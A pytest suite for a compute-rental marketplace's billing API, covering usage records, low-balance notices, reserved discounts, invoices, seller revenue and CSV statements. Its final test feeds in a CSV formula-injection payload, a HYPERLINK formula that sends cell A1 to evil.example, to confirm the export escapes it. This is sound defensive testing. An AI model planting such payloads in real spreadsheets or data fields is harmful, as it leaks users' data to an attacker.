"""Usage records, notifications, term discounts, invoices and seller views through the API, on SQLite and
PostgreSQL, with a ManualClock. After every test the ledger must be consistent (as in test_trading_api)."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from sqlalchemy import select
from trading_helpers import START, Market, TestClient, assert_ledger_consistent, quick_user

from suanli.core.billing import ManualClock, charge_for_seconds, reserved_price
from suanli.core.ledger import AccountKind, TransferKind, commission_fen
from suanli.trading.invoices import parse_period
from suanli.trading.models import LedgerAccount, LedgerTransfer


@pytest.fixture
def market(db, make) -> Iterator[Market]:
    from suanli.app import create_app

    clock = ManualClock(START)
    client = TestClient(create_app(db, clock=clock))
    factory = type(make)(client, db)
    factory._n = 2000
    m = Market(client=client, db=db, clock=clock, make=factory, operator=quick_user(db, "operator"))
    yield m
    assert_ledger_consistent(m)


def meter(market: Market) -> dict:
    r = market.client.post("/api/v1/operator/metering/run", headers=market.operator["headers"])
    assert r.status_code == 200, r.text
    return r.json()


def usage(market: Market, user: dict, order_id: str) -> list[dict]:
    r = market.client.get(f"/api/v1/orders/{order_id}/usage", headers=user["headers"])
    assert r.status_code == 200, r.text
    return r.json()["items"]


def notifications(market: Market, user: dict) -> list[dict]:
    r = market.client.get("/api/v1/notifications", headers=user["headers"])
    assert r.status_code == 200, r.text
    return r.json()["items"]


def ledger_sum(market: Market, org_id: str, account: AccountKind, side: str, kinds: list[TransferKind],
               period: str) -> int:
    """Σ of the org account's debits or credits of ``kinds`` in ``period``, straight from ledger_transfers."""
    start, end = parse_period(period)
    with market.db.unit_of_work(write=False) as session:
        account_id = session.scalar(select(LedgerAccount.id).where(LedgerAccount.kind == account,
                                                                   LedgerAccount.owner_org_id == uuid.UUID(org_id)))
        column = LedgerTransfer.debit_account_id if side == "debit" else LedgerTransfer.credit_account_id
        return sum(session.scalars(select(LedgerTransfer.amount_fen).where(
            column == account_id, LedgerTransfer.kind.in_(kinds), LedgerTransfer.created_at >= start,
            LedgerTransfer.created_at < end)))


# ---------------------------------------------------------------- usage records

def test_usage_records_follow_an_on_demand_order(market):
    _, product = market.seller_with_product(price_on_demand_fen=7200)
    buyer = market.buyer(topup_fen=1_000_000)
    order = market.order(buyer, product, units=2).json()
    market.clock.advance(600)
    meter(market)
    market.clock.advance(301)
    market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])
    items = usage(market, buyer, order["id"])
    assert [(i["event"], i["seconds_total"], i["charged_total"]["fen"]) for i in items] == [
        ("start", 0, 0), ("meter", 600, charge_for_seconds(7200, 2, 600)),
        ("release", 901, charge_for_seconds(7200, 2, 901))]
    other = market.buyer()
    assert market.client.get(f"/api/v1/orders/{order['id']}/usage", headers=other["headers"]).status_code == 404


def test_usage_and_notice_of_a_preempted_spot_order(market):
    _, product = market.seller_with_product(stock_units=1, price_on_demand_fen=8000, price_spot_floor_fen=3000)
    spot_buyer = market.buyer(topup_fen=100_000)
    spot = market.order(spot_buyer, product, mode="spot", bid_hourly_fen=3000).json()
    market.clock.advance(100)
    buyer = market.buyer(topup_fen=100_000)
    pending = market.order(buyer, product)
    assert pending.status_code == 202
    (note,) = notifications(market, spot_buyer)
    assert note["kind"] == "preempted" and note["order_id"] == spot["id"] and "竞价" in note["message_zh"]
    market.clock.advance(300)
    meter(market)
    assert [i["event"] for i in usage(market, spot_buyer, spot["id"])] == ["start", "preempt_notice", "preempted"]
    assert usage(market, spot_buyer, spot["id"])[-1]["seconds_total"] == 400
    assert [i["event"] for i in usage(market, buyer, pending.json()["id"])] == ["start"]
    market.client.post(f"/api/v1/orders/{pending.json()['id']}/release", headers=buyer["headers"])


# ---------------------------------------------------------------- low balance

def test_low_balance_warns_once_per_episode_and_the_lease_stops_in_time(market):
    _, product = market.seller_with_product(price_on_demand_fen=1000, price_spot_floor_fen=None)
    buyer = market.buyer(topup_fen=1200)
    order = market.order(buyer, product).json()
    market.clock.advance(600)
    assert meter(market)["low_balance"] == 0  # 1200 − 167 left: more than an hour
    assert notifications(market, buyer) == []
    market.clock.advance(300)
    assert meter(market)["low_balance"] == 1  # 950 left: less than an hour
    market.clock.advance(60)
    meter(market)
    items = notifications(market, buyer)
    assert [n["kind"] for n in items] == ["low_balance"] and items[0]["order_id"] == order["id"]
    assert "余额" in items[0]["message_zh"] and "Low balance" in items[0]["message_en"]
    market.clock.advance(3250)  # 4210 s: the money (1200 fen ≈ 4321 s) is within the stop margin
    assert meter(market)["stopped"] == 1
    ended = market.client.get(f"/api/v1/orders/{order['id']}", headers=buyer["headers"]).json()
    assert ended["status"] == "ended" and ended["end_reason"] == "out_of_funds"
    assert ended["charged"]["fen"] == charge_for_seconds(1000, 1, 4210)
    wallet = market.wallet(buyer)
    assert wallet["available"]["fen"] == 1200 - ended["charged"]["fen"] >= 0
    assert [n["kind"] for n in notifications(market, buyer)] == ["lease_stopped", "low_balance"]
    assert usage(market, buyer, order["id"])[-1]["event"] == "stop"
    assert usage(market, buyer, order["id"])[-1]["note"] == "out_of_funds"
    r = market.client.post("/api/v1/notifications/read", headers=buyer["headers"])
    assert r.json() == {"marked_read": 2}
    assert market.client.get("/api/v1/notifications?unread=true", headers=buyer["headers"]).json()["total"] == 0


def test_a_topped_up_wallet_ends_the_episode(market):
    _, product = market.seller_with_product(price_on_demand_fen=1000, price_spot_floor_fen=None)
    buyer = market.buyer(topup_fen=1200)
    order = market.order(buyer, product).json()
    market.clock.advance(900)
    meter(market)
    market.topup(buyer, 100_000)
    market.clock.advance(60)
    meter(market)  # not low any more: the episode is over
    market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])
    assert [n["kind"] for n in notifications(market, buyer)] == ["low_balance"]


# ---------------------------------------------------------------- term discounts

def test_sellers_set_reserved_term_discounts(market):
    seller, product = market.seller_with_product(price_reserved_month_fen=1_000_001,
                                                 reserved_discounts_bp={"3": 500, "6": 1000, "12": 2000})
    terms = {t["months"]: t for t in product["prices"]["reserved_terms"]}
    assert terms[1]["discount_bp"] == 0 and terms[1]["per_unit"]["fen"] == 1_000_001
    assert terms[6]["discount_bp"] == 1000
    assert terms[6]["per_unit"]["fen"] == reserved_price(1_000_001, 1, 6, {6: 1000}) == 5_400_005
    assert terms[12]["per_unit"]["fen"] == reserved_price(1_000_001, 1, 12, {12: 2000})
    buyer = market.buyer(topup_fen=20_000_000)
    order = market.order(buyer, product, mode="reserved", units=2, term_months=6).json()
    assert order["charged"]["fen"] == reserved_price(1_000_001, 2, 6, {6: 1000})
    url = f"/api/v1/products/{product['id']}"
    r = market.client.patch(url, headers=seller["headers"], json={"reserved_discounts_bp": {"12": 3000}})
    assert r.status_code == 200, r.text
    terms = {t["months"]: t["discount_bp"] for t in r.json()["prices"]["reserved_terms"]}
    assert terms == {1: 0, 3: 0, 6: 0, 12: 3000}
    for bad in ({"12": 5001}, {"1": 100}, {"3": -1}, {"6": "10"}):
        r = market.client.patch(url, headers=seller["headers"], json={"reserved_discounts_bp": bad})
        assert r.status_code == 422, (bad, r.text)


# ---------------------------------------------------------------- invoices

def test_buyer_and_seller_invoices_add_up_to_the_ledger(market):
    seller, product = market.seller_with_product(price_on_demand_fen=8333, price_reserved_month_fen=2_000_000,
                                                 price_spot_floor_fen=3000, stock_units=8,
                                                 reserved_discounts_bp={"3": 500})
    buyer = market.buyer(topup_fen=10_000_000)
    ops = market.operator["headers"]
    on_demand = market.order(buyer, product, units=2).json()
    reserved = market.order(buyer, product, mode="reserved", units=1, term_months=3).json()
    spot = market.order(buyer, product, mode="spot", units=1, bid_hourly_fen=3333).json()
    market.clock.advance(1800)
    meter(market)
    market.clock.advance(1234)
    for order in (on_demand, spot):
        assert market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"]).status_code == 200
    r = market.client.post(f"/api/v1/operator/orders/{reserved['id']}/refunds", headers=ops,
                           json={"amount_fen": 10_001, "reference": "TICKET-1"})
    assert r.status_code == 201
    market.client.post("/api/v1/operator/payouts", headers=ops, json={
        "organization_id": seller["org_id"], "amount_fen": 100_000, "reference": "PAY-1"})

    listed = market.client.get("/api/v1/invoices", headers=buyer["headers"]).json()
    assert [i["period"] for i in listed] == ["2026-11"]
    invoice_id = f"{buyer['org_id']}:2026-11"
    assert listed[0]["id"] == invoice_id and listed[0]["lines"] == 3
    invoice = market.client.get(f"/api/v1/invoices/{invoice_id}", headers=buyer["headers"]).json()
    lines = {line["order_id"]: line for line in invoice["lines"]}
    assert lines[on_demand["id"]]["seconds"] == 3034 and lines[on_demand["id"]]["mode"] == "on_demand"
    assert lines[on_demand["id"]]["amount"]["fen"] == charge_for_seconds(8333, 2, 3034)
    assert lines[spot["id"]]["amount"]["fen"] == charge_for_seconds(3333, 1, 3034)
    assert lines[reserved["id"]]["amount"]["fen"] == reserved_price(2_000_000, 1, 3, {3: 500})
    assert lines[reserved["id"]]["term_months"] == 3 and lines[reserved["id"]]["seconds"] is None
    assert lines[reserved["id"]]["datacenter_name"] and lines[reserved["id"]]["product_name"] == product["name"]
    charges = sum(line["amount"]["fen"] for line in invoice["lines"])
    assert charges == invoice["totals"]["charges"]["fen"] == ledger_sum(
        market, buyer["org_id"], AccountKind.BUYER_HELD, "debit", [TransferKind.CAPTURE, TransferKind.COMMISSION],
        "2026-11")
    orders = market.client.get("/api/v1/orders", headers=buyer["headers"]).json()["items"]
    assert charges == sum(o["charged"]["fen"] for o in orders)
    assert [t["amount"]["fen"] for t in invoice["topups"]] == [10_000_000]
    assert [(x["reference"], x["amount"]["fen"]) for x in invoice["refunds"]] == [("TICKET-1", 10_001)]
    assert invoice["totals"]["net_spent"]["fen"] == charges - 10_001
    assert invoice["period_start"].startswith("2026-10-31T16:00:00")

    sold = market.client.get(f"/api/v1/invoices/{seller['org_id']}:2026-11", headers=seller["headers"]).json()
    assert sold["role"] == "seller"
    gross = sum(line["amount"]["fen"] for line in sold["lines"])
    net = sum(line["net"]["fen"] for line in sold["lines"])
    commission = sum(line["commission"]["fen"] for line in sold["lines"])
    assert gross == charges and gross == net + commission
    assert net == sold["totals"]["net"]["fen"] == ledger_sum(
        market, seller["org_id"], AccountKind.SELLER_RECEIVABLE, "credit", [TransferKind.CAPTURE], "2026-11")
    assert commission == sum(commission_fen(o["charged"]["fen"], 500) for o in orders)
    assert [p["amount"]["fen"] for p in sold["payouts"]] == [100_000]
    assert sold["totals"]["refunds"]["fen"] == 10_001 - commission_fen(10_001, 500)

    revenue = market.client.get("/api/v1/seller/revenue?period=2026-11", headers=seller["headers"]).json()
    assert revenue["gross"]["fen"] == gross and revenue["net"]["fen"] == net
    assert revenue["commission"]["fen"] == commission
    assert [(r["orders"], r["gross"]["fen"]) for r in revenue["by_product"]] == [(3, gross)]
    assert [r["net"]["fen"] for r in revenue["by_datacenter"]] == [net]
    assert market.client.get("/api/v1/seller/revenue", headers=seller["headers"]).json()["period"] == "2026-11"
    payouts = market.client.get("/api/v1/seller/payouts", headers=seller["headers"]).json()
    assert payouts["paid_out"]["fen"] == 100_000 and payouts["items"][0]["reference"] == "PAY-1"
    assert payouts["receivable"]["fen"] == market.wallet(seller)["receivable"]["fen"]
    seller_orders = market.client.get("/api/v1/seller/orders", headers=seller["headers"]).json()
    assert seller_orders["total"] == 3
    assert market.client.get("/api/v1/seller/orders", headers=buyer["headers"]).status_code == 403
    assert market.client.get("/api/v1/seller/revenue", headers=buyer["headers"]).status_code == 403


def test_months_are_cut_at_midnight_china_time(market):
    _, product = market.seller_with_product(price_on_demand_fen=3600, price_spot_floor_fen=None)
    buyer = market.buyer(topup_fen=100_000_000)
    order = market.order(buyer, product).json()
    last_minute = datetime(2026, 11, 30, 15, 59, 0, tzinfo=UTC)  # 2026-11-30 23:59 in Beijing
    market.clock.advance((last_minute - START).total_seconds())
    meter(market)
    market.clock.advance(120)  # 00:01 on 1 December in Beijing
    meter(market)
    market.clock.advance(1800)
    market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])
    listed = market.client.get("/api/v1/invoices", headers=buyer["headers"]).json()
    assert [i["period"] for i in listed] == ["2026-12", "2026-11"]
    november = market.client.get(f"/api/v1/invoices/{listed[1]['id']}", headers=buyer["headers"]).json()
    december = market.client.get(f"/api/v1/invoices/{listed[0]['id']}", headers=buyer["headers"]).json()
    first = int((last_minute - START).total_seconds())
    assert november["lines"][0]["seconds"] == first
    assert november["lines"][0]["amount"]["fen"] == charge_for_seconds(3600, 1, first) == first
    assert december["lines"][0]["seconds"] == 1920
    assert november["lines"][0]["amount"]["fen"] + december["lines"][0]["amount"]["fen"] == first + 1920
    assert december["topups"] == [] and len(november["topups"]) == 1
    assert market.client.get("/api/v1/invoices?period=2026-10", headers=buyer["headers"]).json() == []
    assert [i["period"] for i in market.client.get("/api/v1/invoices?period=2026-12",
                                                   headers=buyer["headers"]).json()] == ["2026-12"]


def test_invoice_csv_and_access(market):
    _, product = market.seller_with_product(name="昇腾 910B ×8 裸金属", price_on_demand_fen=8000)
    buyer = market.buyer(topup_fen=1_000_000)
    order = market.order(buyer, product).json()
    market.clock.advance(900)
    market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])
    url = f"/api/v1/invoices/{buyer['org_id']}:2026-11"
    for r in (market.client.get(url + "?format=csv", headers=buyer["headers"]),
              market.client.get(url, headers={**buyer["headers"], "Accept": "text/csv"})):
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert r.content.startswith(b"\xef\xbb\xbf")
        text = r.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        line = next(row for row in rows if row and row[0] == order["id"])
        assert line[1] == "昇腾 910B ×8 裸金属" and line[3] == "按需" and line[-1] == "20.00"
        assert rows[0][0] == "账单" and rows[5][0] == "订单号" and ["合计", "消费（元）", "20.00"] in rows
        assert "invoice" not in r.headers["content-disposition"] and "statement-2026-11.csv" in \
            r.headers["content-disposition"]
    english = market.client.get(url + "?format=csv&lang=en", headers=buyer["headers"])
    rows = list(csv.reader(io.StringIO(english.content.decode("utf-8-sig"))))
    assert rows[0][0] == "Statement" and rows[3][2] == "Beijing time (UTC+8)"
    assert rows[3][3:] == ["2026-11-01 00:00:00", "2026-12-01 00:00:00"]  # the month's bounds, Beijing time
    assert ["Total", "Charges (CNY)", "20.00"] in rows and "on demand" in next(r for r in rows if r and r[0] == order["id"])
    topup = next(r for r in rows if r and r[0] == "top-up")
    assert topup[2] == "2026-11-28 16:00:00"  # START, 08:00 UTC, in Beijing time
    by_header = market.client.get(url + "?format=csv", headers={**buyer["headers"], "Accept-Language": "en-US,en"})
    assert by_header.content.decode("utf-8-sig").startswith("Statement,")
    assert market.client.get(url, headers=market.operator["headers"]).status_code == 200
    other = market.buyer()
    r = market.client.get(url, headers=other["headers"])
    assert r.status_code == 404 and r.json()["error"]["code"] == "invoice_not_found"
    assert market.client.get(f"/api/v1/invoices/{buyer['org_id']}:2026-13", headers=buyer["headers"]) \
        .json()["error"]["code"] == "invalid_period"
    assert market.client.get("/api/v1/invoices/nonsense", headers=buyer["headers"]).status_code == 404
    assert market.client.get(url).status_code == 401


# ---------------------------------------------------------------- the meter in the background

def test_two_meters_at_the_same_time_charge_once(market):
    from suanli.trading.jobs import run_meter

    _, product = market.seller_with_product(price_on_demand_fen=7200)
    buyer = market.buyer(topup_fen=1_000_000)
    order = market.order(buyer, product).json()
    market.clock.advance(600)
    first, second = run_meter(market.db, market.clock), run_meter(market.db, market.clock)
    assert (first.metered, first.charged_fen) == (1, charge_for_seconds(7200, 1, 600))
    assert (second.metered, second.charged_fen, second.failed) == (0, 0, 0)
    market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])
    assert [i["event"] for i in usage(market, buyer, order["id"])] == ["start", "meter", "release"]


def test_the_meter_thread_meters_until_stopped(market):
    import time

    from suanli.trading.jobs import MeterThread

    _, product = market.seller_with_product(price_on_demand_fen=7200)
    buyer = market.buyer(topup_fen=1_000_000)
    order = market.order(buyer, product).json()
    market.clock.advance(60)
    thread = MeterThread(market.db, market.clock, 0.05)
    thread.start()
    try:
        deadline = time.monotonic() + 20
        while thread.runs < 1 and time.monotonic() < deadline:
            time.sleep(0.05)
    finally:
        thread.stop()
        thread.join(timeout=20)
    assert thread.runs >= 1 and not thread.is_alive()
    metered = market.client.get(f"/api/v1/orders/{order['id']}", headers=buyer["headers"]).json()
    assert metered["charged"]["fen"] == charge_for_seconds(7200, 1, 60)
    market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])


def test_invoice_csv_cells_never_start_a_formula(market):
    name = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
    _, product = market.seller_with_product(name=name, price_on_demand_fen=3600)
    buyer = market.buyer(topup_fen=1_000_000)
    order = market.order(buyer, product).json()
    market.clock.advance(600)
    market.client.post(f"/api/v1/orders/{order['id']}/release", headers=buyer["headers"])
    r = market.client.get(f"/api/v1/invoices/{buyer['org_id']}:2026-11?format=csv", headers=buyer["headers"])
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    line = next(row for row in rows if row and row[0] == order["id"])
    assert line[1] == "'" + name  # shown as text by Excel, LibreOffice and WPS
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
